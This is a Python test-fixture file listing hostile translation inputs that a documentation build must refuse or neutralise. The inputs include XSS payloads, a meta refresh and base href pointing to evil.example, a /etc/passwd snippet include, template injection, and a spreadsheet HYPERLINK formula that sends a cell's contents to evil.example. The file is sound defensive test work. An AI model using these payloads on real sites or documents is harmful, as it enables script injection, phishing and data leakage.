"""Attack inputs a hostile translator (or a careless writer) might put in a catalog.

Shared by the unit-level table (test_trust.py) and the real-site builds (test_trust_build.py).
Each body attack is tried in every unit kind; each field attack in every front-matter field.
"""

from __future__ import annotations

#: A source text that is valid for each unit kind (what a writer would write there).
SOURCE_BY_KIND = {
    "heading": "How the village works",
    "paragraph": "The village sells **tea** online.",
    "list item": "Farmers pick leaves at dawn.",
    "blockquote": "We sell everything we grow.",
    "table header": "Harvest",
    "table cell": "Spring tea",
    "image alt": "Terraced tea fields",
    "admonition title": "Good to know",
    "admonition": "The market opens at six.",
    "details title": "More about the market",
    "details": "Buyers come from the city.",
    "tab title": "Spring",
    "tab": "The first leaves are picked.",
    "footnote": "Figures from the village office.",
    "term": "Longjing",
    "definition": "A green tea from Hangzhou.",
    "abbreviation": "Agricultural Cooperative",
}

#: (name, translation). Each must be refused, in every kind, with a message.
BODY_ATTACKS = [
    (
        "iframe srcdoc, slash separator",
        "Le village<iframe/srcdoc=&lt;script&gt;alert(document.domain)&lt;/script&gt;></iframe/x>",
    ),
    ("javascript link, slash separator", "Le <a/href=&#106;avascript:alert(1)>village</a>"),
    (
        "meta refresh, slash separator",
        "Le village <meta/http-equiv=refresh/content=0;url=//evil.example/phish>",
    ),
    ("base href, slash separator", "Le village <base/href=//evil.example/>"),
    ("style element, slash separator", "Le village <style/x>body{display:none}</style/x>"),
    ("img onerror", "Le village <img src=x onerror=alert(1)>"),
    ("svg onload", "Le village <svg/onload=alert(1)>"),
    ("script element", "Le village <script>alert(1)</script>"),
    ("html comment", "Le village <!-- caché -->"),
    ("reference definition without space", "Le village\n[ici]:&#106;avascript:alert(1)"),
    ("reference definition alone", "[ici]:&#106;avascript:alert(1)"),
    ("attribute list, bare word, href", 'Le village { x href="javascript:alert(1)" }'),
    ("attribute list, bare word, style", 'Le village { x style="position:fixed;inset:0" }'),
    ("abbreviation, space before colon", "Le village\n*[CITY] : title"),
    ("setext heading", "Marcher\n==="),
    ("definition list", "Terme\n: définition"),
    ("table", "a | b\n--|--\nc | d"),
    ("new paragraph", "Le village.\n\nUn autre paragraphe."),
    ("list", "Le village\n- une liste"),
    ("heading line", "Le village\n## Titre"),
    ("blockquote line", "Le village\n> citation"),
    ("fenced code", "Le village\n```\ncode\n```"),
    ("footnote definition", "Le village\n[^9]: une note"),
    ("control character BACKSPACE", "Le vil\blage"),
    ("control character NUL", "Le vil\x00lage"),
    ("control character ESC", "Le vil\x1b[31mlage"),
    ("lone surrogate", "Le vil\ud800lage"),
    ("snippets include", 'Le village --8<-- "/etc/passwd"'),
    ("template", "Le village {{ config.extra }}"),
    ("javascript autolink", "Le village <javascript:alert(1)>"),
    ("data URL link", "Le [village](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
]

#: Attacks on front-matter fields that are refused (with a message).
FIELD_ATTACKS = [
    (
        "HTML in a plain-text field",
        "Along the canal</title/x><iframe/srcdoc=&lt;script&gt;alert(document.domain)&lt;/script&gt;></iframe/x>",
    ),
    ("script element", "Along the canal<script>alert(1)</script>"),
    ("control character", "Along the\bcanal"),
    ("NUL", "Along the\x00canal"),
]

#: Field texts that are accepted but must come out as inert text in every output.
INERT_FIELD_TEXT = {
    "summary": '0;url=//evil.example/phish" http-equiv="refresh',
    "snippet": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "authors": 'Mei "Lin" & <Co>',
}
